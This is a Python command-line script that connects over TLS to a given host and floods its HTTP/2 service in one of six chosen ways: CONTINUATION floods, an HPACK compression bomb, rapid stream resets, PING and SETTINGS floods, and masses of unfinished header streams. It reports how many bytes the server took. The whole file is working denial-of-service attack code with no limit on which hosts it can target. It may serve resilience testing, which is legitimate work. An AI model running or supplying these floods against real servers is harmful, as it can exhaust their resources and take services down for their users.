"""Floods of HTTP/2 (RFC 9113) from inside. Usage: frames.py HOST KIND. Prints how many bytes were taken."""
import socket
import ssl
import sys

host, kind = sys.argv[1:]
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
s = context.wrap_socket(socket.create_connection((host, 443), 20), server_hostname=host)
assert s.selected_alpn_protocol() == "h2"
s.settimeout(20)
taken = 0
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9


def frame(type, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([type, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    """A string of HPACK (RFC 7541, 5.2), without Huffman's code."""
    length = len(value)
    if length < 127:
        return bytes([length]) + value
    rest, digits = length - 127, []
    while rest >= 128:
        digits.append(rest % 128 + 128)
        rest //= 128
    return bytes([127, *digits, rest]) + value


def head(path=b"/open"):
    # GET, https, and the names of `:path` and `:authority` are in the static table.
    return bytes([0x82, 0x87, 0x04]) + text(path) + bytes([0x01]) + text(host.encode())


def say(*frames):
    global taken
    for one in frames:
        s.sendall(one)
        taken += len(one)


def continued():
    say(frame(HEADERS, 1, 1, head()))
    while taken < 64 << 20:
        say(frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"y" * 100)) * 100))


def bomb():
    """One long field in the table, referred to again and again."""
    say(frame(HEADERS, 1, 1, head() + b"\x40" + text(b"x-a") + text(b"y" * 3900)))
    while taken < 8 << 20:
        say(frame(CONTINUATION, 0, 1, b"\xbe" * 16000))


def resets():
    stream = 1
    while stream < 200_000:
        say(frame(HEADERS, 5, stream, head()) + frame(RESET, 0, stream, (8).to_bytes(4, "big")))
        stream += 2


def pings():
    while taken < 32 << 20:
        say(frame(PING, 0, 0, b"12345678") * 500)


def settings():
    while taken < 32 << 20:
        say(frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64") * 500)


def unfinished():
    """Heads without an end, on as many streams as there are."""
    stream = 1
    while stream < 20_000:
        say(frame(HEADERS, 4, stream, head()))
        stream += 2


try:
    say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(SETTINGS, 0, 0))
    {"continued": continued, "bomb": bomb, "resets": resets, "pings": pings, "settings": settings, "unfinished": unfinished}[kind]()
except OSError as problem:
    print(taken, type(problem).__name__)
else:
    print(taken, "all of it")
